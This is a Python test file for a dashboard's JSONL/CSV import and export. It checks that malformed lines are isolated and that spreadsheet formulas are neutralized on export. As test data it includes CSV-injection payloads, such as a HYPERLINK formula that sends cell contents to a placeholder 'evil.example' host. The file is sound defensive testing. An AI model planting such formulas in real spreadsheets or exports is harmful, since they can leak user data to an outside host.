"""Issue 13: an import isolates every bad line (undecodable bytes, a byte order mark, deep
nesting, an id repeated with other content) and imports every good one; CSV exports cannot
carry spreadsheet formulas, and still round-trip."""

from __future__ import annotations

import csv
import io
import json
import uuid

import pytest
from builders import make_run, make_task, table_rows

from dashboard import command as cli
from ingest.store import database
from ingest.transfer import import_export as transfer
from ingest.transfer.import_export import neutralize_formula, restore_formula


@pytest.fixture
def target_url(make_db) -> str:
    return make_db()


def _run(**fields):
    return {"type": "run", "id": str(uuid.uuid4()), "source_type": "chat", **fields}


def _task(run, **fields):
    return {"type": "task", "run_id": run["id"], "task_id": str(uuid.uuid4()), **fields}


def _jsonl(records) -> bytes:
    return b"".join(json.dumps(r).encode() + b"\n" for r in records)


def test_a_latin1_byte_rejects_its_line_only(target_url, tmp_path, monkeypatch, capsys):
    run = _run(name="ok")
    lines = _jsonl([run, _task(run)]) + _jsonl([_run(name="caf_")]).replace(b"caf_", b"caf\xe9")
    lines += _jsonl([_task(run)])
    path = tmp_path / "mixed.jsonl"
    path.write_bytes(lines)
    monkeypatch.setenv("DATABASE_URL", target_url)
    assert cli.main(["import", str(path)]) == 2
    captured = capsys.readouterr()
    assert f"{path}:3: not valid UTF-8: byte 0xe9" in captured.err
    assert "runs: 1 inserted" in captured.out and "tasks: 2 inserted" in captured.out


def test_a_latin1_byte_in_csv_rejects_its_record_only(target_url, tmp_path):
    ids = [str(uuid.uuid4()) for _ in range(3)]
    text = "id,source_type,name\n" + "".join(f"{i},chat,n{n}\n" for n, i in enumerate(ids))
    path = tmp_path / "runs.csv"
    path.write_bytes(text.encode().replace(b"n1", b"\xff1"))
    summary = transfer.import_files([path], target_url)
    assert [(r.line, r.reason[:26]) for r in summary.rejected] == [
        (3, "not valid UTF-8: byte 0xff")
    ]
    assert summary.inserted["run"] == 2


def test_a_deeply_nested_line_rejects_that_line_only(target_url, tmp_path):
    run = _run()
    deep = "[" * 5000 + "]" * 5000
    bad = json.dumps(_run()).replace('"chat"', '"chat", "metadata": {"x": ' + deep + "}")
    medium = _run(metadata={"x": json.loads("[" * 200 + "]" * 200)})
    path = tmp_path / "deep.jsonl"
    path.write_bytes(_jsonl([run]) + bad.encode() + b"\n" + _jsonl([medium, _task(run)]))
    summary = transfer.import_files([path], target_url)
    assert [r.line for r in summary.rejected] == [2, 3]
    assert all("nested too deeply" in r.reason for r in summary.rejected)
    assert summary.rejected[1].reason.startswith("metadata: ")
    assert summary.inserted == {"user": 0, "run": 1, "task": 1}


def test_a_byte_order_mark_is_not_part_of_line_one(target_url, tmp_path):
    run = _run()
    jsonl = tmp_path / "bom.jsonl"
    jsonl.write_bytes(b"\xef\xbb\xbf" + _jsonl([run, _task(run)]))
    summary = transfer.import_files([jsonl], target_url)
    assert summary.rejected == [] and summary.inserted["task"] == 1
    rows = [_run(), _run()]
    text = "type,id,source_type\n" + "".join(f"run,{r['id']},chat\n" for r in rows)
    csv_path = tmp_path / "bom.csv"
    csv_path.write_bytes(b"\xef\xbb\xbf" + text.encode())
    summary = transfer.import_files([csv_path], target_url)
    assert summary.rejected == [] and summary.inserted["run"] == 2


def test_same_task_id_with_other_content_is_reported(target_url, tmp_path):
    run = _run()
    task = _task(run, model="gpt-4o")
    same = dict(task)
    other = {**task, "model": "gpt-4o-mini"}
    path = tmp_path / "dups.jsonl"
    path.write_bytes(_jsonl([run, task, same, other]))
    summary = transfer.import_files([path], target_url)
    assert [(r.line, r.reason.split(":")[0]) for r in summary.rejected] == [(4, "task_id")]
    assert f"{path}:2 with different content" in summary.rejected[0].reason
    assert summary.inserted["task"] == 1 and summary.duplicates["task"] == 1
    assert [t["model"] for t in table_rows(target_url, "ai_tasks")] == ["gpt-4o"]


@pytest.mark.parametrize(
    "cell", ['=HYPERLINK("http://evil.example","x")', "+1", "-2+3", "@SUM(A1)", "\tx", "\rx"]
)
def test_formula_cells_are_neutralized_and_restored(cell):
    assert neutralize_formula(cell) == "'" + cell
    assert restore_formula(neutralize_formula(cell)) == cell
    for safe in ("plain", "'quoted", "", "a=b"):
        assert neutralize_formula(safe) == safe == restore_formula(safe)
    tricky = "'" + cell
    assert restore_formula(neutralize_formula(tricky)) == tricky


def test_csv_export_neutralizes_formulas_and_round_trips(db_url, conn, target_url, tmp_path):
    evil = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    run = make_run(conn, name=evil, description="@cmd", tags=["+tag", "-x"],
                   settings={"f": "=1+1"})  # fmt: skip
    make_task(conn, run, model="-model", response_text="'=already quoted", user_id="=u")
    out = io.StringIO()
    transfer.export(out, db_url, fmt="csv")
    cells = [c for row in csv.reader(io.StringIO(out.getvalue())) for c in row]
    assert evil not in cells and "'" + evil in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    path = tmp_path / "export.csv"
    path.write_text(out.getvalue(), encoding="utf-8", newline="")
    summary = transfer.import_files([path], target_url)
    assert summary.rejected == []
    assert table_rows(target_url, "ai_runs") == table_rows(db_url, "ai_runs")
    assert table_rows(target_url, "ai_tasks") == table_rows(db_url, "ai_tasks")
    assert database.run_totals_mismatches(target_url) == []
